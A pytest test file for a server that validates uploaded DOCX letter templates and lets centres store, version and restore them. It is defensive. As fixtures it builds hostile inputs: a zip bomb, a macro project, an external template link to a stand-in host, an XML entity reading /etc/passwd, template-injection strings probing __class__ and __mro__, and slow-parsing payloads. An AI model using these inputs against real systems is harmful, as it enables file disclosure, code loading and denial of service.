"""Templates from outside: what is refused and why, and what a centre may keep, change and take back."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import docx
import pytest
from docx.shared import Pt
from PIL import Image

from server.papers import layout
from server.papers.blanks import Filled
from server.papers.checking import Checked, checked
from server.papers.container import MOST_BYTES
from server.papers.forms import Form
from server.papers.making import Stock, made
from server.papers.sample import sample
from server.papers.shelf import Moved, Shelf
from server.papers.wording import HEAD, mistakes, ours, words_of
from tests.server.papers.made import (
    CENTRE,
    NOW,
    docx_text,
    part_of,
    pdf_text,
    with_body,
    with_part,
    with_text,
)

PARAGRAPH = "<w:p><w:r>{}</w:r></w:p>"
RELS = "word/_rels/document.xml.rels"


def trials(form: Form) -> tuple[Filled, ...]:
    words = words_of(form, "vi", {})
    return tuple(sample(form, CENTRE, words, "vi", NOW, bare) for bare in (False, True))


def look(raw: bytes, form: Form = Form.APOLOGY) -> Checked:
    return checked(raw, form, trials(form))


def codes(raw: bytes, form: Form = Form.APOLOGY) -> list[tuple[str, str]]:
    return [(flaw.code, flaw.what) for flaw in look(raw, form).flaws]


@pytest.mark.parametrize("form", Form)
def test_our_own_templates_may_come_back_as_they_went(form: Form) -> None:
    assert look(layout.template(form), form) == Checked()


def bomb() -> bytes:
    return with_part("word/media/big.png", b"\0" * 25 * 1024 * 1024)


def png(size: int) -> bytes:
    out = io.BytesIO()
    Image.new("1", (size, size)).save(out, "PNG")
    return out.getvalue()


def external() -> bytes:
    whole = part_of(RELS).decode()
    more = (
        '<Relationship Id="rX" TargetMode="External" Target="http://evil.invalid/t.dotx" Type='
        '"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
    )
    return with_part(RELS, whole.replace("</Relationships>", f"{more}</Relationships>").encode())


def entity() -> bytes:
    body = part_of("word/document.xml").decode().split("?>", 1)[1]
    dtd = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    return with_part("word/document.xml", f'<?xml version="1.0"?>{dtd}{body}'.encode())


def macro_type() -> bytes:
    kinds = part_of("[Content_Types].xml").decode()
    said = kinds.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return with_part("[Content_Types].xml", said.encode())


@pytest.mark.parametrize(
    ("raw", "code"),
    [
        (b"", "no-docx"),
        (b"PK\x03\x04 not a zip", "no-docx"),
        (b"x" * (MOST_BYTES + 1), "too-large"),
        (bomb(), "bomb"),
        (with_part("word/media/wide.png", png(4000)), "bomb"),
        (with_part("word/media/odd.png", b"no picture"), "picture"),
        (with_part("word/media/odd.emf", b"\1\0\0\0"), "picture"),
        (with_part("word/vbaProject.bin", b"macro"), "macros"),
        (macro_type(), "macros"),
        (with_part("word/embeddings/book.xlsx", b"PK"), "embedded"),
        (external(), "external"),
        (entity(), "xml"),
        (with_part("word/document.xml", b"<w:document"), "xml"),
        (with_part("word/document.xml", b"<a/>"), "no-docx"),
    ],
)
def test_a_file_that_is_no_harmless_docx_is_refused(raw: bytes, code: str) -> None:
    assert [found for found, _ in codes(raw)] == [code]


def test_a_lying_zip_gives_no_more_than_it_says() -> None:
    raw = bytearray(bomb())
    at = raw.index(b"PK\x01\x02", raw.rindex(b"word/media/big.png") - 60)
    raw[at + 24 : at + 28] = (100).to_bytes(4, "little")  # the size that the directory claims
    assert codes(bytes(raw))[0][0] in ("no-docx", "picture", "bomb")


@pytest.mark.parametrize(
    ("text", "flaw"),
    [
        ("{{ nme }}", ("tag-unknown", "nme")),
        ("{{ w.nothing }}", ("tag-unknown", "w.nothing")),
        ("{{ secret }}", ("tag-unknown", "secret")),  # of the receipt, not of a letter
        ("{{ code", ("tag-broken", "{{ code")),
        ("{{ a b }}", ("tag-broken", "{{ a b }}")),
        ("{% if code %}", ("tag-broken", "")),
        ("{{ reason }}", ("tag-list", "reason")),
        ("{{ w }}", ("tag-list", "w")),
        ("{{ code * 999999999 }}", ("tag-forbidden", "mul")),
        ("{{ code.__class__ }}", ("tag-unknown", "code.__class__")),
        ("{{ ''.__class__.__mro__ }}", ("tag-forbidden", ".__mro__")),
        ("{{ range(9) }}", ("tag-forbidden", "call")),
        ("{{ code|center(99999999) }}", ("tag-forbidden", "|center")),
        ("{% for i in code %}{% endfor %}", ("tag-unknown", "code")),
        (
            "{% for line in reason %}{% for line in reason %}{{ line }}{% endfor %}{% endfor %}",
            ("tag-forbidden", "for"),
        ),
        ("{% set a = 1 %}", ("tag-forbidden", "assign")),
        ("{% include 'x' %}", ("tag-forbidden", "include")),
        ("{% macro a() %}{% endmacro %}", ("tag-forbidden", "macro")),
        ("\u2611 đã nhận", ("letter", "\u2611")),
    ],
)
def test_a_tag_says_a_blank_of_its_form_or_nothing(text: str, flaw: tuple[str, str]) -> None:
    assert flaw in codes(with_text(text))


@pytest.mark.parametrize(
    ("xml", "what"),
    [
        (PARAGRAPH.format("<w:pict/>"), "floating"),
        (PARAGRAPH.format("<w:sym/>"), "symbol"),
        (PARAGRAPH.format("<w:fldChar w:fldCharType='begin'/><w:instrText>DATE</w:instrText>"), "field"),
        (PARAGRAPH.format("<w:rPr><w:vanish/></w:rPr><w:t>x</w:t>"), "hidden"),
        ("<w:p><w:pPr><w:numPr/></w:pPr></w:p>", "list"),
        ("<w:p><w:pPr><w:pStyle w:val='ListBullet'/></w:pPr></w:p>", "list"),
        ("<w:p><w:ins><w:r/></w:ins></w:p>", "tracked"),
        ("<w:sdt/>", "control"),
        ("<w:p><w:pPr><w:sectPr/></w:pPr></w:p>", "sections"),
        ("<w:p><w:newThing/></w:p>", "newThing"),
    ],
)
def test_what_the_pdf_would_not_have_is_refused_by_name(xml: str, what: str) -> None:
    assert ("not-drawn", what) in codes(with_body(xml))


@pytest.mark.parametrize(
    "raw",
    [
        with_text("{% colspan " + " " * 300_000 + " % x %}"),
        with_body('<w:p><w:bookmarkStart w:id="1" w:name="{% colspan ' + " " * 300_000 + '"/></w:p>'),
        with_body("<w:p>" + "<w:r><w:t>{</w:t></w:r>" * 40_000 + "</w:p>"),
        with_body(PARAGRAPH.format("<w:t>{{ code }}</w:t>") * 20_000),
        with_body("<w:hyperlink>" * 20_000 + "</w:hyperlink>" * 20_000),
        with_body(PARAGRAPH.format("<w:br w:type='page'/>" * 3000)),
        with_text("x" * 1_000_000),
    ],
    ids=["spaces", "attribute", "braces", "tags", "deep", "pages", "letters"],
)
def test_what_would_take_long_is_refused_before_it_does(raw: bytes) -> None:
    """Each of these took seconds, or for ever, in a search of docxtpl's or in ours."""
    assert {code for code, _ in codes(raw)} <= {"tag-broken", "too-many-tags", "too-long", "no-docx"}
    assert look(raw).flaws


def test_a_loop_across_cells_is_refused() -> None:
    table = (
        "<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc><w:p><w:r><w:t>"
        "{% for line in reason %}</w:t></w:r></w:p></w:tc></w:tr></w:tbl><w:p><w:r><w:t>"
        "{{ line }}{% endfor %}</w:t></w:r></w:p>"
    )
    assert [code for code, _ in codes(with_body(table))] == ["tag-place"]


def edited() -> bytes:
    """As somebody edits it in a word processor: another size, a table, letters drawn plainly."""
    opened = docx.Document(io.BytesIO(layout.template(Form.APOLOGY)))
    run = opened.paragraphs[3].insert_paragraph_before().add_run("Trung tâm của chúng tôi: {{ code|upper }}")
    run.font.size, run.font.small_caps = Pt(14), True
    out = io.BytesIO()
    opened.save(out)
    return out.getvalue()


@pytest.fixture
def shelf(tmp_path: Path) -> Iterator[Shelf]:
    yield Shelf(tmp_path / "papers")


def test_a_centre_keeps_its_template_and_takes_it_back(shelf: Shelf) -> None:
    form, stock = Form.APOLOGY, Stock(shelf)
    raw = edited()
    assert look(raw) == Checked((), ("smallCaps",))
    put = shelf.put_template(form, 0, raw, "chief", NOW)
    assert put.n == 1 and shelf.put_template(form, 1, raw, "chief", NOW) == put
    paper = trials(form)[0]
    for text in (
        docx_text(made(stock, form, paper, "docx", "vi")),
        pdf_text(made(stock, form, paper, "pdf", "vi")),
    ):
        assert "Trung tâm của chúng tôi: H42.13-261120-0118" in text
    with pytest.raises(Moved):
        shelf.put_template(form, 0, layout.template(form), "other", NOW)
    again = Shelf(shelf._folder)
    assert again.go_back(form, 1, 0, "chief", NOW).of == 0
    assert [v.deed for v in again.history(form)] == ["template", "restored"]
    assert again.template(form) is None and again.template(form, 1) == raw
    assert again.go_back(form, 2, 1, "chief", NOW).template == put.template
    with pytest.raises(LookupError):
        again.go_back(form, 3, 9, "chief", NOW)


def test_words_are_changed_without_a_template(shelf: Shelf) -> None:
    told = {lang: dict(texts) for lang, texts in ours(HEAD).items()}
    told["vi"]["parent"] = "UBND TỈNH  HÀ NAM\n"
    shelf.put_words(HEAD, 0, told, "chief", NOW)
    assert shelf.now(HEAD).words == {"vi": {"parent": "UBND TỈNH HÀ NAM"}}
    stock = Stock(shelf)
    words = stock.words(Form.STOP, "vi")
    paper = sample(Form.STOP, CENTRE, words, "vi", NOW)
    assert "UBND TỈNH HÀ NAM" in docx_text(made(stock, Form.STOP, paper, "docx", "vi"))
    assert stock.words(Form.STOP, "en")["parent"] == "PEOPLE'S COMMITTEE"


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("{nobody}", "blank"),
        ("{code", "brace"),
        ("{{code}}", "brace"),
        ("{code.__class__}", "brace"),
        ("a\u202eb\x07", "control"),
        ("x" * 601, "length"),
    ],
)
def test_words_that_cannot_be_said_are_refused(text: str, code: str) -> None:
    assert [(m[1], m[2]) for m in mistakes("apology", {"vi": {"to": text}})] == [("to", code)]
    assert not list(mistakes("apology", {"vi": {"to": "Gửi {applicant}, hồ sơ {code}: {old_due}"}}))


def test_a_template_of_another_program_is_opened_as_a_zip_alone() -> None:
    """A part that nothing refers to is carried along and never read."""
    raw = with_part("customXml/item1.xml", b"<b:Sources xmlns:b='x'/>")
    assert look(raw) == Checked()
    with zipfile.ZipFile(io.BytesIO(raw)) as packed:
        assert "customXml/item1.xml" in packed.namelist()
